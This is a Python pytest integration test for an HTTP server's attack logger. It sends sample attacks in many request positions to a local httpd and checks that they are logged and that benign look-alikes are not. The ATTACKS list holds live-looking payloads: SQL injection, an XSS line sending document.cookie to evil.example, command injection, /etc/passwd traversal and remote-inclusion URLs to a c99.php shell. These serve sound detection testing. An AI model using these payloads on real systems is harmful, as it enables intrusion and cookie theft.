"""The placement matrix, a fixed sample: a few attacks of each class
(written for development, test/eval/written, and PayloadsAllTheThings'
traversals) in every place scripts/eval/place.py puts them (path segment,
query name and value, cookie name and value, Referer, User-Agent, a header
of the client's own, a form field, a multipart value and file name, a JSON
key and value, nested, an XML element's text and attribute), each request
built by place.py and sent from its own loopback address to a real httpd
(bodies to a CGI program that reads them). Each attack must be recorded
with a rule of its category whose field is that place; the benign values
in the same places must not be recorded at all.

A place where a class makes no sense is left out of its row and named in
BLIND (the whole matrix and its notes: doc/evaluation.md, "Placement").

test_written_places replays test/eval/written/place.tsv (attacks written
where they sit: a later cookie, the Referer's fragment or raw query, a
token-list standard header leaving its grammar, a client header, a path
segment, a SOAP body) and benign-place.tsv (look-alikes in the same
places): each attack recorded with a hit of its category on its field,
no look-alike recorded.

Run:  LW_BUILDDIR=/path/to/build LW_SRCDIR=/path/to/src \\
      /usr/bin/python3 -m pytest -q test/integration/test_place.py
"""
import codecs
import os
import socket
import sys
import time

import pytest

import lwhttpd

sys.path.insert(0, os.path.join(lwhttpd.srcdir(), "scripts", "eval"))
import place  # noqa: E402

# Places where a class makes no sense: place.BLIND (with its reasons).
BLIND = place.BLIND

# (class, category of the rule expected, value)
ATTACKS = [
    ("sqli", "sqli", "7 or 2>1"),
    ("sqli", "sqli", "') union select null,version()--"),
    ("sqli", "sqli", "order by 1,2,3,4"),
    ("xss", "xss", "<script>document.location='//evil.example/?c='+document.cookie</script>"),
    ("xss", "xss", "data:image/svg+xml,<svg onload=alert(1)>"),
    ("rce", "rce", ";uname -a"),
    ("rce", "rce", ";dig +short evil.example"),
    ("rce", "rce", "cat /etc/passwd"),
    ("lfi", "lfi", "../../../../etc/passwd"),
    ("lfi", "lfi", "/var/www/conf/httpd.conf"),
    ("lfi", "lfi", "C:/system32/inetsrv/metabase.xml"),
    ("rfi", "rfi", "http://203.0.113.77/inc.txt?"),
    ("rfi", "rfi", "http://evil.example.com/c99.php"),
    ("inject", "rce", "{{9*9}}"),
    ("inject", "rce", "<%= system('id') %>"),
    ("inject", "sqli", "*)(uid=*))(|(uid=*"),
]

# (set, value): look-alikes from the written benign sets
BENIGN = [
    ("sqli", "O'Brien"),
    ("sqli", "it's 5 o'clock"),
    ("xss", "<b>bold</b>"),
    ("shell", "cats & dogs"),
    ("lfi", "where is the hosts file on linux"),
    ("rfi", "https://www.example.com/"),
    ("inject", "{{ product.title }}"),
]


@pytest.fixture
def mpm():
    # Where a field is read does not depend on the MPM: one is enough.
    return "event"


@pytest.fixture
def server(httpd_factory):
    h = httpd_factory(start=False)
    place.body_sink(h)
    return h.start()


def send(port, i, data):
    s = socket.create_connection(("127.0.0.1", port), 10,
                                 (place_source(i), 0))
    try:
        s.sendall(data)
        lwhttpd.read_to_close(s)
    finally:
        s.close()


def place_source(i):
    """Request i's own loopback address (as scripts/eval/live.py gives)."""
    return "127.%d.%d.%d" % (i // (254 * 254) + 1, (i // 254) % 254 + 1,
                             i % 254 + 1)


def by_source(recs):
    out = {}
    for r in recs:
        if lwhttpd.is_attack(r):
            out[r["client"]] = r
    return out


def test_attacks_recorded_in_their_place(server):
    cases = [(cls, cat, v, p) for cls, cat, v in ATTACKS
             for p in place.PLACE_NAMES
             if p not in BLIND[cls] and place.placeable(p, v)]
    for i, (_, _, v, p) in enumerate(cases):
        send(server.port, i, place.request_bytes(p, v))
    server.wait_records(len(cases), pred=lwhttpd.is_attack, timeout=30)
    time.sleep(0.3)
    recs = by_source(server.records())
    wrong = []
    for i, (cls, cat, v, p) in enumerate(cases):
        rec = recs.get(place_source(i))
        if rec is None:
            wrong.append("%s in %s: not recorded: %r" % (cls, p, v))
            continue
        lwhttpd.check_record(rec)
        hits = [x for x in rec["rules"] if x["category"] == cat
                and place.in_place(p, x["field"])]
        if not hits:
            wrong.append("%s in %s: no %s rule on the place (%s): %r" % (
                cls, p, cat, " ".join("%s@%s" % (x["id"], x["field"])
                                      for x in rec["rules"]), v))
    assert not wrong, "\n".join(wrong)
    assert len(recs) == len(cases)


def test_benign_not_recorded_in_any_place(server):
    cases = [(st, v, p) for st, v in BENIGN for p in place.PLACE_NAMES]
    for i, (_, v, p) in enumerate(cases):
        send(server.port, i, place.request_bytes(p, v))
    # a request that is recorded is in the log once its answer is sent;
    # the attack after them is the sign that the log has caught up
    send(server.port, len(cases), place.request_bytes("qvalue", ";uname -a"))
    assert server.wait_records(1, pred=lambda r: r["client"] == place_source(len(cases)),
                               timeout=30)
    time.sleep(0.3)
    recs = by_source(server.records())
    flagged = ["%s in %s: %s %r" % (st, p, " ".join(
        "%s@%s" % (x["id"], x["field"]) for x in recs[place_source(i)]["rules"]), v)
        for i, (st, v, p) in enumerate(cases) if place_source(i) in recs]
    assert not flagged, "\n".join(flagged)


WRITTEN = os.path.join(lwhttpd.srcdir(), "test", "eval", "written")


def written_requests(name, attacks):
    """The requests of a place.tsv-style file: (category, field, bytes)
    for attacks, (None, None, bytes) for look-alikes."""
    out = []
    with open(os.path.join(WRITTEN, name), "rb") as f:
        for line in f:
            line = line.rstrip(b"\r\n")
            if not line or line.startswith(b"#"):
                continue
            cols = line.split(b"\t")
            cat = field = None
            if attacks:
                cat, field = cols[0].decode(), cols[1].decode()
                cols = cols[2:]
            method, target, rest = cols[0], cols[1], cols[2:]
            headers = [(b"Host", b"localhost")]
            body = None
            for c in rest:
                if c.startswith(b"body="):
                    body = codecs.escape_decode(c[5:])[0]
                    headers[0] = (b"Host", place.BODY_HOST.encode())
                elif c:
                    k, _, v = c.partition(b":")
                    headers.append((k.strip(), v.strip()))
            if not any(k.lower() == b"user-agent" for k, _ in headers):
                headers.append((b"User-Agent", place.UA.encode()))
            if body is not None:
                headers.append((b"Content-Length", str(len(body)).encode()))
            req = method + b" " + target + b" HTTP/1.1\r\n"
            req += b"".join(k + b": " + v + b"\r\n" for k, v in headers)
            req += b"Connection: close\r\n\r\n" + (body or b"")
            out.append((cat, field, req))
    return out


def test_written_places(server):
    attacks = written_requests("place.tsv", True)
    benign = written_requests("benign-place.tsv", False)
    assert len(attacks) >= 30 and len(benign) >= 15
    cases = attacks + benign
    for i, (_, _, req) in enumerate(cases):
        send(server.port, i, req)
    # the attack after them is the sign that the log has caught up
    send(server.port, len(cases), place.request_bytes("qvalue", ";uname -a"))
    assert server.wait_records(1, pred=lambda r: r["client"] == place_source(len(cases)),
                               timeout=30)
    time.sleep(0.3)
    recs = by_source(server.records())
    wrong = []
    for i, (cat, field, req) in enumerate(cases):
        rec = recs.get(place_source(i))
        first = req.split(b"\r\n\r\n")[0].decode("latin-1").replace("\r\n", " | ")
        if cat is None:
            if rec is not None:
                wrong.append("benign recorded: %s: %s" % (" ".join(
                    "%s@%s" % (x["id"], x["field"]) for x in rec["rules"]), first))
            continue
        if rec is None:
            wrong.append("%s@%s not recorded: %s" % (cat, field, first))
            continue
        lwhttpd.check_record(rec)
        if not any(x["category"] == cat and x["field"].startswith(field)
                   for x in rec["rules"]):
            wrong.append("%s@%s: no such hit (%s): %s" % (cat, field, " ".join(
                "%s@%s" % (x["id"], x["field"]) for x in rec["rules"]), first))
    assert not wrong, "\n".join(wrong)
